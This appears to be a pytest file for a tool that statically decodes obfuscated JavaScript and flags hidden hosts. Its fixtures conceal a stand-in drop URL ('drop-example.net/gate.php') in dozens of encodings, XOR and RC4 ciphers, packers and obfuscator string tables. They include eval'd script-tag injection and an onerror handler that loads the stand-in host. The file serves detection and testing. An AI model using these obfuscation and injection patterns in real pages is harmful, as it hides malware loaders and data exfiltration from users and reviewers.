"""Reading what scripts hide, without running them."""

from __future__ import annotations

import base64
import random
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from content.signs import read
from content.signs.budget import Budget
from content.signs.layers import Reader

HIDDEN = "https://drop-example.net/gate.php"
ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/"
STANDARD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
OTHER = str.maketrans(STANDARD, ALPHABET)


def decoded(script: str) -> str:
    """All layers of a script."""
    return "\n".join(layer.text for layer in Reader(Budget(60)).layers(script))


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def xored(text: str, key: str) -> str:
    return "".join(chr(ord(c) ^ ord(key[n % len(key)])) for n, c in enumerate(text))


def js(text: str) -> str:
    return "'" + "".join(f"\\x{ord(c):02x}" for c in text) + "'"


WAYS = {
    "hex escapes": js(HIDDEN),
    "unicode escapes": "'" + "".join(f"\\u{ord(c):04x}" for c in HIDDEN) + "'",
    "octal escapes": "'"
    + "".join(f"\\{ord(c):o}" if not c.isdigit() else f"\\{ord(c):03o}" for c in HIDDEN)
    + "'",
    "joined": " + ".join(f"'{HIDDEN[n : n + 3]}'" for n in range(0, len(HIDDEN), 3)),
    "a template": "`https://${'drop'}-example.net/${`gate`}.php`",
    "base64": f"atob('{b64(HIDDEN)}')",
    "base64 twice": f"window['at' + 'ob'](atob('{b64(b64(HIDDEN))}'))",
    "base64 by a function of its own": f"d('{b64(HIDDEN)}')",
    "base64 of another alphabet": f"var a = '{ALPHABET}='; d('{b64(HIDDEN).translate(OTHER)}')",
    "hex": f"d('{HIDDEN.encode().hex()}')",
    "percent signs": "unescape('" + "".join(f"%{ord(c):02x}" for c in HIDDEN) + "')",
    "character codes": f"String.fromCharCode({','.join(str(ord(c)) for c in HIDDEN)})",
    "a list of character codes": f"d([{','.join(str(ord(c)) for c in HIDDEN)}])",
    "numbers with a mark between": f"d('{'O'.join(str(ord(c)) for c in HIDDEN)}')",
    "a list of enciphered codes": f"d([{','.join(str(ord(c) ^ 77) for c in HIDDEN)}])",
    "backwards": f"'{HIDDEN[::-1]}'.split('').reverse().join('')",
    "backwards by a function of its own": f"d('{HIDDEN[::-1]}')",
    "junk between": f"'{'!!'.join(HIDDEN)}'.split('!!').join('')",
    "letters replaced": f"'{HIDDEN.replace('e', '~')}'.replaceAll('~', 'e')",
    "characters to take away": f"'{'#~'.join(HIDDEN)}'.replace(/[#~]/g, '')",
    "a function that gives it": f"h() + t(); function h() {{ return '{HIDDEN[:12]}' }}"
    f"function t() {{ return '{HIDDEN[12:]}'; }}",
    "base64 backwards": f"d('{b64(HIDDEN).rstrip('=')[::-1]}')",
    "base64 behind other letters": f"d('{'xQ' + b64(HIDDEN)}'.substring(k))",
    "codes with a number added": f"d([{','.join(str(ord(c) + 1_777) for c in HIDDEN)}])",
    "letters of another script": "d('" + "".join(chr(ord(c) + 0x4E00) for c in HIDDEN) + "')",
    "XOR, one key": f"d({js(xored(HIDDEN, chr(23)))})",
    "XOR in base64": f"d('{b64(xored(HIDDEN, chr(90)))}', 90)",
    "XOR in hex, a key in the script": f"d('{xored(HIDDEN, 'k3yword').encode().hex()}', 'k3yword')",
    "shifted": f"d({js(''.join(chr(ord(c) + 3) for c in HIDDEN))})",
    "a variable": f"var h = '{HIDDEN[:12]}', t = '{HIDDEN[12:]}'; var u = h + t;",
    "a property": f"var o = {{qWe: '{HIDDEN[:12]}'}}; u = o['qWe'] + '{HIDDEN[12:]}'",
    "a list": f"var l = ['{HIDDEN[12:]}', '{HIDDEN[:12]}']; u = l[1] + l[0x0]",
    "another base": f"({int('drop', 36)}).toString(36) + '-example.net'",
    "sums": "String.fromCharCode(" + ",".join(f"{ord(c) * 3}/3" for c in HIDDEN) + ")",
    "bits": "String.fromCharCode(" + ",".join(f"{ord(c) ^ 0x55} ^ 0x55" for c in HIDDEN) + ")",
}


@pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
def test_a_hidden_address_is_read(script):
    assert "drop-example.net" in decoded(f"send({script})"), script


@pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
def test_an_encoded_script_is_read_as_a_script(script):
    if HIDDEN in script:
        return
    inner = f"var x = document.createElement('script'); x.src = {script}; document.body.append(x)"
    outer = f"eval(atob('{b64(inner)}'))"
    assert "drop-example.net" in decoded(outer)


def table_of_strings(strings: list[str], turned: int, offset: int, key: str | None) -> tuple[str, str]:
    """A script as the usual obfuscator writes it, and the call that gives the string `HIDDEN`.

    The turning is given by a sum that comes out right once the table is turned.
    """
    strings = [*strings, "123abc", "77xyz", HIDDEN]
    sum_at = strings.index("123abc"), strings.index("77xyz")
    written = strings[-turned:] + strings[:-turned] if turned else strings
    call = f"_0xf({hex(strings.index(HIDDEN) + offset)})"
    first, second = hex(sum_at[0] + offset + 9), hex(sum_at[1] + offset)
    sum_ = f"-parseInt(_0xw(0x0, {first})) / 0x1 + -parseInt(_0xf({second})) / 0x2"
    turn = "t['push'](t['shift']());"
    target = -123 - 77 / 2
    target_js = f"{target * 2:.0f}"  # whole: the sum is doubled
    return (
        f"function _0xt(){{var a={written!r};_0xt=function(){{return a;}};return _0xt();}}"
        f"function _0xw(a, b){{return _0xf(b - 0x9, a);}}"
        f"(function(g, n){{var t=g();while(!![]){{try{{var s=({sum_})*0x2;"
        f"if(s===n)break;else {turn}}}catch(e){{{turn}}}}}}}(_0xt, {target_js}));"
        f"function _0xf(a, b){{a = a - {hex(offset)};var t=_0xt();var v=t[a];return v;}}"
        f"var u = {call};",
        call,
    )


@given(
    strings=st.lists(st.text(string.ascii_letters, min_size=3, max_size=9), min_size=3, max_size=20),
    turned=st.integers(0, 60),
    offset=st.integers(1, 0x1FF),
)
@settings(deadline=None, max_examples=25)
def test_a_turned_table_of_strings_is_read(strings, turned, offset):
    script, call = table_of_strings(strings, turned, offset, None)
    assert f'var u="{HIDDEN}"' in decoded(script)
    assert call not in decoded(script)


def rc4(text: str, key: str) -> str:
    state, j, out = list(range(256)), 0, []
    for i in range(256):
        j = (j + state[i] + ord(key[i % len(key)])) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for c in text:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(chr(ord(c) ^ state[(state[i] + state[j]) % 256]))
    return "".join(out)


def test_an_enciphered_table_is_read():
    words = ["document", "createElement", HIDDEN, "appendChild"]
    keys = ["a!3f", "Zk2)", "q7&b", "PpLd"]
    table = [
        base64.b64encode(rc4(word, key).encode()).decode().rstrip("=").translate(OTHER)
        for word, key in zip(words, keys, strict=True)
    ]
    script = (
        f"var _0xa=[{','.join(map(repr, table))}];"
        "(function(l,n){var g=function(k){while(--k){l['push'](l['shift']());}};g(++n);}(_0xa,0x4));"
        f"function _0xb(i,k){{i=i-0x1b;var v=_0xa[i];var d=function(s){{var c='{ALPHABET}=';return s;}};"
        "for(var j=0;j<0x100;j++){}return v;}"
        "var w=_0xb;send(w(0x1d,'q7&b'));"
    )
    assert f'send("{HIDDEN}")' in decoded(script)


def test_a_packed_script_is_read():
    script = (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(c.toString(a),k[c]);return p}("
        '\'1.2("0").3="4://5-6.7/"\',8,8,'
        "'img|document|createElement|src|https|drop|example|net'.split('|'),0,{}))"
    )
    assert 'document.createElement("img").src="https://drop-example.net/"' in decoded(script)


def test_the_scripts_of_a_page_are_read_and_its_text_is_not():
    page = f"<!DOCTYPE html><p>it's {b64(HIDDEN)}</p><script>send(atob('{b64(HIDDEN)}'))</script>"
    reading = read(page, 60)
    assert reading.hidden_hosts == ("drop-example.net",)
    assert [sign.offset for sign in reading.signs if sign.rule.id == "hidden-host"] == [page.index("atob(")]


def test_what_a_handler_in_a_page_decodes_is_read():
    inner = f"var s=document.createElement('script');s.src='{HIDDEN}';document.body.append(s)"
    page = f'<div><img src="x" id="{b64(inner)}" onerror="eval(atob(this.id))"></div>'
    assert read(page, 60).hidden_hosts == ("drop-example.net",)


def test_what_stands_in_the_code_is_not_hidden():
    assert read(f"send('{HIDDEN}')", 60).hidden_hosts == ()
    assert (
        read(
            "send('//' + account + '.vendor-example.com/x', 'https://a' + '.vendor-example.com/y')", 5
        ).hidden_hosts
        == ()
    )


def test_a_sign_says_where_it_is_and_how_it_was_hidden():
    script = " " * 100 + f"go(atob('{b64(HIDDEN)}'), d('{HIDDEN.encode().hex()}'))"
    hidden = [sign for sign in read(script, 60).signs if sign.rule.id == "hidden-host"]
    assert [100 <= sign.offset < len(script) for sign in hidden] == [True, True]
    assert all("drop-example.net" in sign.excerpt for sign in hidden)
    nested = f"eval(atob('{b64(script)}'))"
    assert {sign.how for sign in read(nested, 60).signs if sign.rule.id == "hidden-host"} == {"decoded"}


def test_an_excerpt_is_one_printable_line():
    script = "go('\\u001b[31m\\u202e\\n\\0https://drop-example.net\\u0007')"
    for sign in read(script, 60).signs:
        assert sign.excerpt.isprintable()


@pytest.mark.parametrize(
    "divided", ["a / b / 'x'", "a++ / 2 + '/x/'", "(a) / 2; b = '/'", "a = /[/'\"]/g; b = 'x'"]
)
def test_a_slash_that_divides_opens_no_regular_expression(divided):
    assert f'go("{HIDDEN}")' in decoded(f"{divided}; go('https://drop-' + 'example.net/gate.php')")


def test_random_scripts_give_the_same_reading_twice():
    text = "".join(random.Random(3).choice("ab1'\"`+([{}])/\\ ;=,.x0") for _ in range(20_000))
    assert read(text, 60) == read(text, 60)
